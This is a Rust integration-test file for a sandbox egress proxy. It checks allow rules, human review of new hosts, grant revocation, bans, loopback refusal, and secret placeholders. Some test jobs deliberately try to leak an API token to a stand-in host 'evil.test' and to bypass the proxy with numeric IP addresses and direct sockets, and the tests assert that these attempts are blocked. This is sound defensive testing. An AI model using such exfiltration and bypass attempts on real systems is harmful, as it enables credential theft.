//! Which connections are let out, and what is told of them.

use super::server::{Pages, Server};
use super::{Setup, Stage, play};
use kernel::{CallEnd, Reply, Tuning};
use serde_json::json;
use std::sync::Arc;
use world::{BanId, CallPattern, Event, GrantId, ReviewId, Scope, Terms};

/// Tells what becomes of requests, one line for each.
const ASK: &str = r#"
import os, urllib.request, urllib.error
# Names of this machine too go through the proxy here.
os.environ['no_proxy'] = os.environ['NO_PROXY'] = ''
def ask(method, url, headers={}):
    try:
        answer = urllib.request.urlopen(urllib.request.Request(url, method=method, headers=headers), timeout=30)
        print(answer.status, answer.read().decode().splitlines()[0])
    except urllib.error.HTTPError as error:
        print(error.code, error.read().decode().splitlines()[0])
    except Exception as error:
        print(error)
"#;

fn script(lines: &str) -> String {
    format!("{ASK}{lines}")
}

fn at(host: &str, port: u16, server: &Server, tls: bool) -> String {
    format!("  s{}: {{ port: {}, host: {host}, as: {port}, tls: {tls} }}\n", server.port, server.port)
}

pub fn allowed() -> Result<(), String> {
    let (web, other) = (Server::plain()?, Server::plain()?);
    let config = format!("services:\n{}{}", at("good.test", 80, &web, false), at("evil.test", 80, &other, false));
    let policy = "  - { name: reads, match: { syscall: net.request, host: good.test, port: 80, method: GET }, action: allow }\n".into();
    play(Setup { policy, config, files: Vec::new(), tuning: Tuning::default() }, async |stage| {
        let (web, other) = (web.serve(Pages::new())?, other.serve(Pages::new())?);
        let asked = "ask('GET', 'http://good.test/a')\nask('GET', 'http://good.test/b')\nask('POST', 'http://good.test/')\n\
                     ask('GET', 'http://evil.test/')\nask('GET', 'http://evil.test/')\nask('GET', 'http://127.0.0.2/')\n\
                     ask('GET', 'http://2130706433/')\nask('GET', 'https://evil.test/')\nask('GET', 'http://good.test:81/')";
        let said = stage.python("integration-test", &script(asked)).await?;
        let denied = "no rule allows";
        let lines: Vec<&str> = said.lines().collect();
        assert_eq!(lines[..2], ["200 GET /a HTTP/1.1", "200 GET /b HTTP/1.1"], "{said}");
        for line in [lines[2], lines[3], lines[4], lines[8]] {
            assert!(line.starts_with("403 skep: ") && line.contains(denied), "{said}");
        }
        assert_eq!(lines[5..7], ["403 skep: hosts are reached by name, not by address"; 2], "{said}");
        assert!(lines[7].starts_with("<urlopen error Tunnel connection failed: 403 "), "{said}");
        assert_eq!(web.lock().map_err(|error| error.to_string())?.len(), 2);
        assert!(other.lock().map_err(|error| error.to_string())?.is_empty(), "nothing came to the other host");

        let told = stage.told()?;
        let refused = |what: &str| told.iter().filter(|line| line.starts_with(&format!("refused {what}"))).count();
        assert_eq!(told[0], "admitted net.request GET good.test:80");
        // A connection is told when it is over, which may be after the next one was asked for.
        assert_eq!(told.iter().filter(|line| *line == "closed GET good.test:80 done").count(), 2, "{told:#?}");
        assert_eq!(refused("net.request POST good.test:80: "), 1, "{told:#?}");
        assert_eq!(refused("net.request GET evil.test:80: "), 1, "the second is counted: {told:#?}");
        assert_eq!(refused("net.connect - evil.test:443: "), 1, "{told:#?}");
        assert_eq!(refused("net.request - ?:null: hosts are reached by name, not by address"), 2, "{told:#?}");
        assert_eq!(told.last().map(String::as_str), Some("finished after 2 requests"), "{told:#?}");
        assert!(
            stage
                .events()?
                .iter()
                .any(|event| matches!(event, Event::RecordsDropped(e) if (e.kind.as_str(), e.count) == ("net.closed", 1)))
        );

        let net = stage.kernel.ledger.look(|world| world.processes.get(&world::Pid(3)).map(|process| process.net)).unwrap_or_default();
        assert_eq!(net.requests, 2);
        assert!(net.up > 100 && net.down > 200, "{net:?}");

        // Without a template there is no way out, and with one there is none beside the proxy.
        let direct = "import socket\nfor a in (('1.1.1.1',443),('127.0.0.1',61128)):\n print(socket.socket().connect_ex(a))";
        let without = stage.call("shell.run", json!({ "command": ["/usr/bin/python3", "-c", direct] })).await?;
        assert!(matches!(without.end, CallEnd::Done { ok: true, value } if value["stdout"] == "101\n111\n"));
        assert_eq!(stage.python("integration-test", direct).await?, "101\n0");
        Ok(())
    })
}

pub fn asked() -> Result<(), String> {
    let web = Server::plain()?;
    let config = format!("services:\n{}", at("new.test", 80, &web, false));
    let policy = "  - { name: new-host, match: { syscall: 'net.*' }, action: require_review, reason: a new host }\n".into();
    play(Setup { policy, config, files: Vec::new(), tuning: Tuning::default() }, async |stage| {
        web.serve(Pages::new())?;
        let twice = script("ask('GET', 'http://new.test/')\nask('GET', 'http://new.test/')");
        let said = stage.python("integration-test", &twice).await?;
        let pending = "511 skep: refused for now: r-2 waits for a person (a new host)";
        assert_eq!(said.lines().collect::<Vec<_>>(), [pending, pending]);
        stage.allow(ReviewId(2)).await?;
        // One yes is for one job, however often it connects; the next job asks again.
        assert_eq!(stage.python("integration-test", &twice).await?.lines().collect::<Vec<_>>(), ["200 GET / HTTP/1.1"; 2]);
        assert_eq!(stage.python("integration-test", &twice).await?.lines().next(), Some(pending.replace("r-2", "r-3").as_str()));
        let told = stage.told()?;
        assert_eq!(
            told,
            [
                "asked net.request GET new.test:80",
                "admitted net.request GET new.test:80",
                "closed GET new.test:80 done",
                "closed GET new.test:80 done",
                "finished after 2 requests",
                "asked net.request GET new.test:80"
            ]
        );
        Ok(())
    })
}

/// A job that asks until the answer is another one, and tells both.
const UNTIL: &str = r#"
import contextlib, io, time
told = []
while len(told) < 2:
    with contextlib.redirect_stdout(io.StringIO()) as said: ask('GET', 'http://new.test/')
    if said.getvalue().strip() not in told: told.append(said.getvalue().strip())
    time.sleep(0.02)
print('\n'.join(told))
"#;

/// Plays [`UNTIL`] and changes something once it was heard.
async fn between(stage: &Arc<Stage>, change: impl AsyncFnOnce() -> Result<(), String>) -> Result<Vec<String>, String> {
    let before = stage.told()?.len();
    let job = tokio::spawn({
        let stage = Arc::clone(stage);
        async move { stage.python("integration-test", &script(UNTIL)).await }
    });
    while stage.told()?.len() == before && !job.is_finished() {
        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
    }
    change().await?;
    let said = job.await.map_err(|error| error.to_string())??;
    Ok(said.lines().map(str::to_owned).collect())
}

pub fn revoked() -> Result<(), String> {
    let web = Server::plain()?;
    let config = format!("services:\n{}", at("new.test", 80, &web, false));
    let policy = "  - { name: new-host, match: { syscall: 'net.*' }, action: require_review, reason: a new host }\n".into();
    play(Setup { policy, config, files: Vec::new(), tuning: Tuning::default() }, async |stage| {
        web.serve(Pages::new())?;
        stage.python("integration-test", &script("ask('GET', 'http://new.test/')")).await?;
        let like = stage.kernel.ledger.look(|world| world.reviews.get(&ReviewId(2)).map(|review| review.like.clone()));
        let like = like.ok_or("no review")?;
        assert!(matches!(&like, CallPattern::Like { host: Some(host), port: Some(80), .. } if host == "new.test"), "{like:?}");
        let lasting = || Reply::Wide { scope: Scope::All, what: None, terms: Terms::default() };
        stage.answer(ReviewId(2), lasting()).await?;
        let fine = "200 GET / HTTP/1.1";

        // The grant goes, and with it the way: the same job asks.
        let revoke = async || stage.kernel.ledger.revoke_grant(GrantId(1), "human").await.map_err(|stop| stop.to_string());
        let said = between(&stage, revoke).await?;
        assert_eq!((said[0].as_str(), said[1].as_str()), (fine, "511 skep: refused for now: r-3 waits for a person (a new host)"));

        // A ban comes between, and goes again.
        stage.answer(ReviewId(3), lasting()).await?;
        // A yes to a look is none to a change; a no is to the whole host.
        let posted = stage.python("integration-test", &script("ask('POST', 'http://new.test/')")).await?;
        assert_eq!(posted, "511 skep: refused for now: r-4 waits for a person (a new host)");
        let ban = async || stage.answer(ReviewId(4), Reply::Never { scope: Scope::All, what: None, alternative: None }).await;
        assert_eq!(between(&stage, ban).await?, [fine, "403 skep: b-1 refuses it: refused for good in r-4"]);
        let lift = async || stage.kernel.ledger.lift_ban(BanId(1), "human").await.map_err(|stop| stop.to_string());
        assert_eq!(between(&stage, lift).await?, ["403 skep: b-1 refuses it: refused for good in r-4", fine]);
        // A name that leads nowhere public is no question.
        let local = stage.python("integration-test", &script("ask('GET', 'http://printer.local/')")).await?;
        assert_eq!(local, "403 skep: `printer.local` cannot be reached: that is a name of a local network");
        Ok(())
    })
}

pub fn templates() -> Result<(), String> {
    let policy = "  - { name: all, match: { syscall: 'net.*' }, action: allow }\n".into();
    play(Setup { policy, config: String::new(), files: Vec::new(), tuning: Tuning::default() }, async |stage| {
        let said = stage.python("install", &script("ask('GET', 'http://evil.test/')\nask('GET', 'http://localhost/')")).await?;
        let outside = |host: &str| format!("403 skep: `{host}` is not one of the 14 hosts of the template `install`");
        assert_eq!(said.lines().collect::<Vec<_>>(), [outside("evil.test"), outside("localhost")]);
        // The policy allows every host; a name that leads to this machine is still refused.
        let said = stage.python("integration-test", &script("ask('GET', 'http://localhost/')")).await?;
        assert_eq!(said, "403 skep: `localhost` cannot be reached: that is this machine (loopback)");
        let told = stage.told()?;
        assert!(told.iter().any(|line| line.starts_with("refused net.request GET localhost:80: ")), "{told:#?}");
        for (template, reason) in [
            ("brain", "`brain` is for Skep's own children, not for commands"),
            ("none-such", "there is no template `none-such`"),
            ("policy-sandbox", "`policy-sandbox` is for Skep's own children, not for commands"),
        ] {
            let outcome = stage.call("shell.run", json!({ "command": ["true"], "template": template })).await?;
            let CallEnd::Refused(refusal) = outcome.end else { return Err(format!("{template} was not refused")) };
            assert_eq!(refusal.reason, reason);
        }
        Ok(())
    })
}

pub fn service() -> Result<(), String> {
    let database = Server::plain()?;
    let config = format!("services: {{ data-base: {} }}\n", database.port);
    let port = database.port;
    let policy = "  - { name: new-host, match: { syscall: 'net.*' }, action: require_review, reason: a service }\n".into();
    play(Setup { policy, config, files: Vec::new(), tuning: Tuning::default() }, async |stage| {
        database.serve(Pages::new())?;
        // Knows no proxy.
        let direct = "import os,socket\nh,p=os.environ['SKEP_SERVICE_DATA_BASE'].split(':')\ns=socket.create_connection((h,int(p)))\n\
                      \
                      try:\n s.sendall(b'PING / X\\r\\n\\r\\n')\n print(s.makefile('rb').read().decode().splitlines()[:1])\n\
                      except ConnectionError: print([])";
        assert_eq!(stage.python("integration-test", direct).await?, "[]", "nobody has said yes");
        stage.allow(ReviewId(2)).await?;
        assert_eq!(stage.python("integration-test", direct).await?, "['HTTP/1.1 200 OK']");
        let told = stage.told()?;
        let place = format!("- data-base.service.skep:{port}");
        let wanted = [format!("asked net.connect {place}"), format!("admitted net.connect {place}"), format!("closed {place} done")];
        assert_eq!(told[..3], wanted);
        // A room without a way out has no door.
        let outcome = stage.call("shell.run", json!({ "command": ["sh", "-c", "env | grep -c -i -e proxy -e SKEP_SERVICE"] })).await?;
        assert!(matches!(outcome.end, CallEnd::Done { ok: false, value } if value["stdout"] == "0\n"));
        Ok(())
    })
}

pub fn secrets() -> Result<(), String> {
    let (web, other) = (Server::plain()?, Server::plain()?);
    let (web_port, _) = (web.port, other.port);
    let config = format!(
        "services:\n{}{}secrets:\n  API_TOKEN: {{ env: OWN, hosts: [good.test, localhost], header: authorization }}\n",
        at("good.test", 80, &web, false),
        at("evil.test", 80, &other, false)
    );
    let policy = "  - { name: all, match: { syscall: 'net.*' }, action: allow }\n".into();
    let mut tuning = Tuning { variables: vec![("OWN".into(), "correct-horse-battery".into())], ..Tuning::default() };
    tuning.reach.allow.push(([127, 0, 0, 1], web_port).into());
    play(Setup { policy, config, files: Vec::new(), tuning }, async |stage| {
        let (web, other) = (web.serve(Pages::new())?, other.serve(Pages::new())?);
        let asked = script(
            "import os\nt=os.environ['API_TOKEN']\nprint(t)\nfor h in ('good.test','evil.test'):\n \
             r=urllib.request.Request('http://'+h+'/',headers={'Authorization':'Bearer '+t})\n \
             l=[l for l in urllib.request.urlopen(r).read().decode().splitlines() if 'uthorization' in l][0]\n \
             print(l.count('*'), l.endswith(t))",
        );
        let said = stage.python("integration-test", &asked).await?;
        let [sentinel, good, evil] = said.lines().collect::<Vec<_>>()[..] else { return Err(said) };
        assert!(sentinel.starts_with("skep-secret-API_TOKEN-"), "{said}");
        assert_eq!(good, "21 False", "what a server sends back is taken out");
        assert_eq!(evil, "0 True", "another host gets what the room has");
        let heard = |list: &std::sync::Mutex<Vec<String>>| list.lock().map(|list| list.join("")).map_err(|error| error.to_string());
        assert!(heard(&web)?.contains("authorization: Bearer correct-horse-battery\r\n"), "{}", heard(&web)?);
        assert!(!heard(&other)?.contains("correct"));

        let input = json!({ "url": format!("http://localhost:{web_port}/"), "headers": { "Authorization": format!("Bearer {sentinel}") } });
        let CallEnd::Done { ok: true, value } = stage.call("http.request", input).await?.end else { return Err("no answer".into()) };
        assert!(!value.to_string().contains("correct"), "{value}");
        assert_eq!(heard(&web)?.matches("Bearer correct-horse-battery").count(), 2);
        let lines = stage.lines()?;
        assert!(!lines.contains("correct-horse"), "no record holds it");

        let outcome = stage.call("shell.run", json!({ "command": ["sh", "-c", "echo x$API_TOKEN"], "template": "install" })).await?;
        assert!(matches!(outcome.end, CallEnd::Done { ok: true, value } if value["stdout"] == "x\n"), "package scripts get none");
        Ok(())
    })
}
